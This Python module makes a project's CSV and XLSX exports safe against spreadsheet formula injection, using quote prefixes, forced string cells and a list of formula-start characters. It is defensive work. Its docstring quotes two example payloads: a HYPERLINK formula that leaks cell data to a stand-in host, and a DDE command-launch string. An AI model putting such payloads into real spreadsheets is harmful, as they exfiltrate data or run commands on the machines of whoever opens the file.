"""The one way svodka writes spreadsheet cells: nothing a head or an import typed is ever run.

A cell that starts with `=`, `+`, `-`, `@` (also their full-width forms `＝＋－＠`, or a
tab/carriage return) is run as a formula by Excel and LibreOffice when an official opens
the file: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0` (the
OWASP CSV-injection list). Every file svodka writes — the XLSX/CSV exports, the request
workbook, the e-mailed attachment, the templates sent to heads, the invite list — goes
through `append_row` (XLSX) or `SafeCsvWriter` (CSV):

- XLSX: text is always a string cell, never a formula (openpyxl turns any text starting
  with `=` into one), and risky text is marked `quotePrefix` so that editing the cell in
  Excel keeps it text; the text itself is kept exactly.
- CSV has no types: risky text gets a leading `'`, which Excel and LibreOffice read as
  "text follows".

Numbers stay numbers: XLSX gets them as numbers, CSV with a decimal comma and no `'`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, TextIO

from bot.domain.formatting import format_decimal

if TYPE_CHECKING:
    from openpyxl.cell import Cell

CRLF = "\r\n"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# openpyxl reads these as error values, not text.
_ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def safe_text(text: str) -> str:
    """Text for a CSV cell: a leading `'` where a spreadsheet would run it."""
    return "'" + text if looks_like_formula(text) else text


class SafeCsvWriter:
    """`csv.writer` whose rows are text (neutralised), numbers or None (an empty cell)."""

    def __init__(self, stream: TextIO, *, delimiter: str = ",", lineterminator: str = "\r\n"):
        # The csv module quotes only the line terminator's own characters: written with "\n"
        # a lone "\r" in a cell would go out bare, and Excel would start a new row there —
        # one whose first cell is whatever follows it. Rows are made with "\r\n" always.
        self._stream = stream
        self._end = lineterminator
        self._line = io.StringIO()
        target = stream if lineterminator == CRLF else self._line
        self._writer = csv.writer(target, delimiter=delimiter, lineterminator=CRLF)
        # A year of a large district is 500 000 cells of a few thousand distinct values
        # (weeks, schools, «Да», counts, shares): each is rendered once, the rest is a dict
        # lookup. Equal ints and floats render alike, so sharing entries is harmless.
        self._rendered: dict[str | float | None, str] = {None: ""}

    def writerow(self, values: Iterable[str | float | None]) -> None:
        get, render = self._rendered.get, self._render
        self._writer.writerow([text if (text := get(v)) is not None else render(v) for v in values])
        if self._end != CRLF:
            self._stream.write(self._line.getvalue()[: -len(CRLF)] + self._end)
            self._line.seek(0)
            self._line.truncate()

    def _render(self, value: str | int | float | None) -> str:
        # Exact types, not isinstance: a bool must not pass for a number (callers write «Да»).
        if type(value) is str:
            text = safe_text(value)
        elif type(value) is int:
            text = str(value)
        elif type(value) is float:
            text = format_decimal(value)
        else:
            raise TypeError(f"not a spreadsheet value: {type(value).__name__}")
        self._rendered[value] = text
        return text


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append` (normal or write-only worksheet) with every text cell kept as text."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A value for `sheet.append`: numbers, dates, None and ready cells as they are."""
    if type(value) is not str:
        return value
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # imported on use (start-up memory)

    # openpyxl refuses control characters (a stray \x07 in a comment would fail the export).
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not looks_like_formula(text) and text not in _ERROR_CODES:
        return text
    return _text_cell(sheet, text)


def _text_cell(sheet: Any, text: str) -> Cell:
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # openpyxl made it a formula (or an error value)
    cell.quotePrefix = True
    return cell
